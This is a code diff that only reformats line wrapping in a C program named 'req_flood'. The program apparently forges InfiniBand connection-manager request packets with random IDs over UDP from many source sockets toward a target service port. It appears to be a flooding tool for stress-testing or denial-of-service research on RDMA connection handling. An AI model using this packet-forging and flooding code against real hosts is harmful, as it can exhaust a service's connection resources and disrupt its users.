@@ -37,8 +37,7 @@ enum {
 	ADDRESSES_MAX = 4096
 };
 
-static struct flow flow = {
-	.src = {[10] = 0xff, [11] = 0xff}, .dst = {[10] = 0xff, [11] = 0xff}, .dport = UDP_PORT};
+static struct flow flow = {.src = {[10] = 0xff, [11] = 0xff}, .dst = {[10] = 0xff, [11] = 0xff}, .dport = UDP_PORT};
 static uint16_t service_port;
 
 static double now_s(void)
@@ -51,21 +50,19 @@ static double now_s(void)
 
 static void forge(uint8_t *mad, struct prng *r)
 {
-	struct cm_req req = {.local_comm_id = (uint32_t)prng_next(r) | 1,
-			     .service_id = (uint64_t)SPACE_TCP << 16 | service_port,
-			     .ca_guid = prng_next(r),
-			     .qpn = (uint32_t)(2 + prng_next(r) % 0xfffff0),
-			     .remote_cm_timeout = 20,
-			     .local_cm_timeout = 18,
-			     .retry_count = 7,
-			     .pkey = 0xffff,
-			     .mtu = 3,
-			     .rnr_retry_count = 7,
-			     .max_cm_retries = 15,
-			     .primary = {.local_lid = 0xffff,
-					 .remote_lid = 0xffff,
-					 .hop_limit = 64,
-					 .ack_timeout = 17}};
+	struct cm_req req = {
+		.local_comm_id = (uint32_t)prng_next(r) | 1,
+		.service_id = (uint64_t)SPACE_TCP << 16 | service_port,
+		.ca_guid = prng_next(r),
+		.qpn = (uint32_t)(2 + prng_next(r) % 0xfffff0),
+		.remote_cm_timeout = 20,
+		.local_cm_timeout = 18,
+		.retry_count = 7,
+		.pkey = 0xffff,
+		.mtu = 3,
+		.rnr_retry_count = 7,
+		.max_cm_retries = 15,
+		.primary = {.local_lid = 0xffff, .remote_lid = 0xffff, .hop_limit = 64, .ack_timeout = 17}};
 	struct mad h = {.base_version = MAD_BASE_VERSION,
 			.mgmt_class = CM_CLASS,
 			.class_version = CM_CLASS_VERSION,
@@ -96,8 +93,7 @@ static void send_one(int fd, struct prng *r)
 }
 
 /* A socket for each address from `first` on; false: errno says why. */
-static bool sources_open(struct sockaddr_in *from, int *fds, unsigned count,
-			 const struct sockaddr_in *to)
+static bool sources_open(struct sockaddr_in *from, int *fds, unsigned count, const struct sockaddr_in *to)
 {
 	struct rlimit limit = {0};
 	socklen_t len = sizeof(*from);
@@ -133,8 +129,7 @@ int main(int argc, char **argv)
 	seconds = atof(argv[2]);
 	service_port = (uint16_t)atoi(argv[5]);
 	from[0].sin_family = AF_INET;
-	if (inet_pton(AF_INET, argv[3], &from[0].sin_addr) != 1 ||
-	    inet_pton(AF_INET, argv[4], &to.sin_addr) != 1 ||
+	if (inet_pton(AF_INET, argv[3], &from[0].sin_addr) != 1 || inet_pton(AF_INET, argv[4], &to.sin_addr) != 1 ||
 	    !sources_open(from, fds, (unsigned)addresses, &to)) {
 		perror("req_flood");
 		return 1;
